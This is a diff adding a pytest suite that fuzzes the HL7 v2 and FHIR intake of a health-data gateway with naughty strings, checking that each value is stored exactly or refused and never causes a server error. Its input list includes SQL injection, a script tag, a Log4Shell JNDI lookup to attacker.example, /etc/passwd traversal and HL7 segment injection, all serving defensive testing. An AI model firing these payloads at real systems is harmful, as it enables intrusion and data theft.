@@ -1,0 +1,184 @@
+"""Naughty strings in every string field: stored and read back byte for byte, or refused; never a 5xx, never a segment more."""
+
+import json
+from typing import Any
+
+import pytest
+
+from fhir_profiles.peek import peek
+from fhir_profiles.shapes import Channel, Envelope, Json
+from fhir_profiles.translate import translate
+from tests.builders import adt_a01, fhir_message
+from tests.gateway.api.conftest import Http
+from tests.gateway.receive.line import rows, segments
+from tests.samples import samples_folder
+
+HL7 = Channel(name="ehr", format="hl7v2")
+FHIR = Channel(name="http-fhir", format="fhir")
+ESCAPES = str.maketrans({"\\": "\\E\\", "|": "\\F\\", "^": "\\S\\", "&": "\\T\\", "~": "\\R\\"})
+FEW = ("", " ", "\u0000", "\r\rPID|2|", "\u000b\u001c\r", "\\.br\\", "\\X0D\\", '"; DROP TABLE message; --', "<script>alert(1)</script>",
+       "${jndi:ldap://attacker.example/a}", "../../etc/passwd", "\u202etest\u202c", "\ufeff", "\U0001f600" * 50, "A" * 5_000, "{{7*7}}", "NaN")  # fmt: skip
+
+
+def escaped(text: str) -> str:
+    """As a careful sender would: delimiters by their letters, control characters by their numbers."""
+    return "".join(
+        f"\\X{each.encode().hex().upper()}\\" if ord(each) < 32 or ord(each) == 127 else each
+        for each in text.translate(ESCAPES)
+    )
+
+
+def hl7(text: str, message_id: str) -> bytes:
+    """Every field of text of an admission is this text."""
+    body = adt_a01(message_id=message_id).decode()
+    for field in ("Birkett-Test", "Bailey", "1 Example Street", "Exampleton", "Example Practice"):
+        assert field in body
+        body = body.replace(field, escaped(text))
+    return body.encode("utf-8", "surrogatepass")
+
+
+def leaves(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
+    """The place of every string."""
+    if isinstance(value, dict):
+        return [found for name, each in value.items() for found in leaves(each, (*path, name))]
+    if isinstance(value, list):
+        return [found for number, each in enumerate(value) for found in leaves(each, (*path, number))]
+    return [path] if isinstance(value, str) else []
+
+
+def put(document: Json, place: tuple[str | int, ...], text: str) -> None:
+    at: Any = document
+    for step in place[:-1]:
+        at = at[step]
+    at[place[-1]] = text
+
+
+RESOURCES = (
+    {
+        "resourceType": "CarePlan",
+        "id": "plan",
+        "status": "active",
+        "intent": "plan",
+        "title": "Substance misuse care plan",
+        "description": "a description",
+        "subject": {"reference": "Patient/patient", "display": "a display"},
+        "note": [{"text": "a note", "authorString": "an author"}],
+        "goal": [{"display": "a goal"}],
+        "identifier": [{"system": "https://example.org/id", "value": "1"}],
+    },
+)
+FREE = {"title", "description", "display", "text", "authorString", "family", "given", "line", "city", "value", "name"}
+
+
+def is_free(place: tuple[str | int, ...]) -> bool:
+    """Free text that is neither who sent it nor whom it is about."""
+    names = [step for step in place if isinstance(step, str)]
+    return names[-1] in FREE and "identifier" not in names and "source" not in names
+
+
+def fhir(text: str | None, message_id: str) -> bytes:
+    document = json.loads(fhir_message(resources=RESOURCES, message_id=message_id))
+    if text is not None:
+        for place in leaves(document):
+            if is_free(place):
+                put(document, place, text)
+    return json.dumps(document, ensure_ascii=False).encode("utf-8", "surrogatepass")
+
+
+def without_outer_blanks(text: str) -> str:
+    """What FHIR can hold of a text of HL7 v2: no control characters, no white space around it."""
+    return "".join(each for each in text if ord(each) >= 32 or each in "\t\r\n").strip()
+
+
+def stored(http: Http) -> bytes:
+    """The bytes of the last message that was kept."""
+    with http.line.store.read() as c:
+        return http.line.parts.keys.unseal(c, rows(http.line.parts)[-1].body_id)
+
+
+def naughty() -> list[str]:
+    found = json.loads((samples_folder() / "naughty-strings" / "blns.json").read_text("utf-8"))
+    assert len(found) >= 500
+    return [*found, *FEW]
+
+
+@pytest.mark.samples
+async def test_in_every_text_of_hl7_v2(http: Http) -> None:
+    """Over HTTP; then what was understood is what was sent, unless the message is held or the value stands for nothing."""
+    bearer = http.bearer("zfg-ehr")
+    read_back = 0
+    for number, text in enumerate(naughty()):
+        body = hl7(text, f"N-{number}")
+        status, _, answer = await http.ask(
+            "POST", "/hl7v2", data=body, headers={"Content-Type": "text/plain", **bearer}
+        )
+        assert status < 500, text
+        assert set(segments(answer)) <= {"MSH", "MSA", "ERR"}, text
+        if status != 200:
+            continue
+        assert stored(http) == body, text
+        understood = translate(HL7, body)
+        patient = next(
+            (
+                each["resource"]
+                for each in understood.bundle.get("entry", [])
+                if each["resource"]["resourceType"] == "Patient"
+            ),
+            None,
+        )
+        if understood.hold is None and patient is not None and "name" in patient and "family" in patient["name"][0]:
+            assert patient["name"][0]["family"] in (text, without_outer_blanks(text)), text
+            read_back += 1
+    assert read_back > 400
+
+
+@pytest.mark.samples
+async def test_in_every_text_of_fhir(http: Http) -> None:
+    bearer = http.bearer("zfg-ehr")
+    read_back = 0
+    for number, text in enumerate(naughty()):
+        body = fhir(text, f"N-{number}")
+        status, _, _ = await http.ask(
+            "POST",
+            "/fhir/$process-message?async=true",
+            data=body,
+            headers={"Content-Type": "application/fhir+json", **bearer},
+        )
+        assert status < 500, text
+        if status != 202:
+            continue
+        assert stored(http) == body, text
+        understood = translate(FHIR, body)
+        if understood.hold is None:
+            patient = next(
+                each["resource"] for each in understood.bundle["entry"] if each["resource"]["resourceType"] == "Patient"
+            )
+            assert patient["name"][0]["family"] == text
+            read_back += 1
+    assert read_back > 400
+
+
+@pytest.mark.parametrize("text", FEW, ids=lambda text: repr(text)[:20])
+def test_in_every_single_string_of_fhir_nothing_fails(text: str) -> None:
+    """Each string of the message by itself, ids, codes, references and addresses too: refused, held or taken, never an exception."""
+    document = json.loads(fhir(None, "N-1"))
+    for place in leaves(document):
+        changed = json.loads(json.dumps(document))
+        put(changed, place, text)
+        body = json.dumps(changed, ensure_ascii=False).encode()
+        if isinstance(peek(FHIR, body), Envelope):
+            translate(FHIR, body)
+
+
+@pytest.mark.parametrize("text", FEW, ids=lambda text: repr(text)[:20])
+def test_in_every_single_field_of_hl7_nothing_fails(text: str) -> None:
+    """Raw, as a careless sender would write it: what it breaks is refused or held."""
+    lines = adt_a01().split(b"\r")[:-1]
+    for line, segment in enumerate(lines):
+        fields = segment.split(b"|")
+        for field in range(1, len(fields)):
+            changed = [*lines]
+            changed[line] = b"|".join([*fields[:field], text.encode(), *fields[field + 1 :]])
+            body = b"\r".join(changed) + b"\r"
+            if isinstance(peek(HL7, body), Envelope):
+                translate(HL7, body)
